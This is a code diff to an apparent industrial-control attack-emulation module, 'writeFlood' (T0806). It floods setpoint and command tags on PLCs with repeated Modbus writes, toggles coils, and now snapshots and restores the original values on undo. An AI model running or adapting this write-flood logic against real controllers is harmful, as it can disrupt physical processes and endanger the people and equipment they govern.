@@ -4,6 +4,7 @@ import { ModbusDesk } from '../plc/modbus-desk.ts'
 import { isRegister } from '../plc/tag-map.ts'
 import type { Attack } from './attack.ts'
 import { EverySeconds, inBursts, PerStrike } from './burst.ts'
+import { takeHold } from './hold.ts'
 import { KeptLink } from './kept-link.ts'
 
 const Parameters = z.strictObject({
@@ -18,12 +19,13 @@ export const writeFlood = {
   technique: 'T0806',
   parameters: Parameters,
   async aim(foothold, { toggle, perStrike, everySeconds }) {
+    const hold = await takeHold(foothold)
     const link = await KeptLink.open(foothold)
     const desk = new ModbusDesk({ map: foothold.map, link })
-    await desk.look(foothold.seconds)
     const found = Object.entries(foothold.map.tags)
       .filter(([, { role }]) => role === 'setpoint' || role === 'command')
-      .map(([tag, { place }]) => ({ tag, value: desk.value(tag), turns: toggle && !isRegister(place) }))
+      .map(([tag, { place }]) => ({ tag, value: hold.before(tag), turns: toggle && !isRegister(place) }))
+    hold.keep(...found.map(({ tag }) => tag))
     // What is written as it was found does not change.
     const targets = toggle ? found.filter(({ turns }) => turns) : found
     const turned = (one: (typeof found)[number]) => ({ ...one, value: one.turns ? 1 - one.value : one.value })
@@ -31,8 +33,8 @@ export const writeFlood = {
       ...{ tags: targets.map(({ tag }) => tag), hosts: [link.host], insistSeconds: everySeconds },
       strike: inBursts([...found.map(turned), ...found], { perStrike, send: ({ tag, value }) => desk.write({ [tag]: value }) }),
       async undo() {
-        for (const { tag, value } of found) await desk.write({ [tag]: value })
         await link.cut()
+        await hold.putBack()
       }
     }
   }
